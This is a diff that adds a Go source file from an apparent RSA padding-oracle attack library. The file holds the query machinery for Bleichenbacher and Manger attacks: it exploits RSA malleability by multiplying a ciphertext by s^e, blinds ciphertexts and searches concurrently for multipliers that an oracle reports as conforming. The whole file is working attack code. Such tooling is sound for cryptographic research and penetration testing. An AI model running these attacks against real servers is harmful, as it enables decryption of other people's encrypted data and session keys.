@@ -0,0 +1,158 @@
+package rsaoracle
+
+import (
+	"context"
+	"crypto/rand"
+	"crypto/rsa"
+	"math/big"
+	"sync"
+	"sync/atomic"
+)
+
+// levels of logged events, see Bleichenbacher.Log and Manger.Log
+const (
+	logVerbose = 1
+	logDebug   = 2
+)
+
+var bigOne = big.NewInt(1)
+
+// asks oracle about multiples of plaintext: RSA is malleable, c * s^e decrypts into m * s mod n
+type querier struct {
+	n, e        *big.Int
+	k           int // length of modulus in bytes
+	oracle      Oracle
+	concurrency int
+	queries     *int64
+	log         func(level int, msg string, fields ...interface{})
+}
+
+func newQuerier(key *rsa.PublicKey, oracle Oracle, concurrency int, queries *int64, log func(int, string, ...interface{})) *querier {
+	if concurrency < 1 {
+		concurrency = 1
+	}
+	return &querier{
+		n:           key.N,
+		e:           big.NewInt(int64(key.E)),
+		k:           (key.N.BitLen() + 7) / 8,
+		oracle:      oracle,
+		concurrency: concurrency,
+		queries:     queries,
+		log:         log,
+	}
+}
+
+func (q *querier) logf(level int, msg string, fields ...interface{}) {
+	if q.log != nil {
+		q.log(level, msg, fields...)
+	}
+}
+
+// asks oracle whether c * s^e decrypts into conforming plaintext
+func (q *querier) query(ctx context.Context, c, s *big.Int) (bool, error) {
+	if err := ctx.Err(); err != nil {
+		return false, err
+	}
+
+	cs := new(big.Int).Mod(new(big.Int).Mul(c, new(big.Int).Exp(s, q.e, q.n)), q.n)
+
+	atomic.AddInt64(q.queries, 1)
+	return q.oracle.Conforming(ctx, toBytes(cs, q.k))
+}
+
+// finds s0, that makes ciphertext conforming. original ciphertext is usually conforming already (s0 = 1),
+// otherwise it's multiplied by random s0 until it is
+func (q *querier) blind(ctx context.Context, c *big.Int) (*big.Int, error) {
+	conforming, err := q.query(ctx, c, bigOne)
+	if err != nil || conforming {
+		return bigOne, err
+	}
+
+	q.logf(logVerbose, "ciphertext is not conforming, blinding")
+	for {
+		s0, err := rand.Int(rand.Reader, q.n)
+		if err != nil {
+			return nil, err
+		}
+		if s0.Sign() == 0 {
+			continue
+		}
+
+		conforming, err := q.query(ctx, c, s0)
+		if err != nil {
+			return nil, err
+		}
+		if conforming {
+			return s0, nil
+		}
+	}
+}
+
+// finds the first s among from, from+step, from+2*step... up to upto (nil for no limit), that makes c * s^e conforming.
+// nil is returned if there is no such s. candidates are probed concurrently
+func (q *querier) search(ctx context.Context, c, from, step, upto *big.Int) (*big.Int, error) {
+	s := new(big.Int).Set(from)
+	for upto == nil || s.Cmp(upto) <= 0 {
+		// batch of candidates is probed at once
+		batch := make([]*big.Int, 0, q.concurrency)
+		for len(batch) < q.concurrency && (upto == nil || s.Cmp(upto) <= 0) {
+			batch = append(batch, new(big.Int).Set(s))
+			s.Add(s, step)
+		}
+
+		conforming := make([]bool, len(batch))
+		errs := make([]error, len(batch))
+		var wg sync.WaitGroup
+		for i := range batch {
+			wg.Add(1)
+			go func(i int) {
+				defer wg.Done()
+				conforming[i], errs[i] = q.query(ctx, c, batch[i])
+			}(i)
+		}
+		wg.Wait()
+
+		// the first one wins
+		for i := range batch {
+			if errs[i] != nil {
+				return nil, errs[i]
+			}
+			if conforming[i] {
+				q.logf(logDebug, "conforming", "s", batch[i].Text(16))
+				return batch[i], nil
+			}
+		}
+	}
+	return nil, nil
+}
+
+// big-endian bytes of x, left-padded with zeros to length k
+func toBytes(x *big.Int, k int) []byte {
+	b := x.Bytes()
+	out := make([]byte, k)
+	copy(out[k-len(b):], b)
+	return out
+}
+
+// ceiling of x/y, y is positive
+func ceilDiv(x, y *big.Int) *big.Int {
+	q, m := new(big.Int).DivMod(x, y, new(big.Int))
+	if m.Sign() != 0 {
+		q.Add(q, bigOne)
+	}
+	return q
+}
+
+func minInt(x, y *big.Int) *big.Int {
+	if x.Cmp(y) < 0 {
+		return x
+	}
+	return y
+}
+
+func maxInt(x, y *big.Int) *big.Int {
+	if x.Cmp(y) > 0 {
+		return x
+	}
+	return y
+}